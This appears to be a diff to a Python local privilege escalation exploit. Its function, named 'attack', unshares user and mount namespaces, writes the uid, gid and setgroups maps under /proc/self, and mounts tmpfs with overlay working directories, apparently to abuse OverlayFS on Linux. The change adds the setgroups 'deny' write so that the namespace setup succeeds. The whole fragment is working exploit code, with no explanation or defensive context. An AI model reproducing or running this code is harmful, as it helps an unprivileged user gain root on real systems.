@@ -83,8 +83,8 @@ OVERLAY = """
 def attack(args):
     def overlay():
         call("unshare", 0x10000000 | 0x00020000)
-        for name in ("uid_map", "gid_map"):
-            with open("/proc/self/" + name, "w") as file: file.write("0 0 1")
+        for name, text in (("uid_map", "0 0 1"), ("setgroups", "deny"), ("gid_map", "0 0 1")):
+            with open("/proc/self/" + name, "w") as file: file.write(text)
         call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
         for name in ("upper", "work"):
             os.makedirs("/tmp/" + name, exist_ok=True)
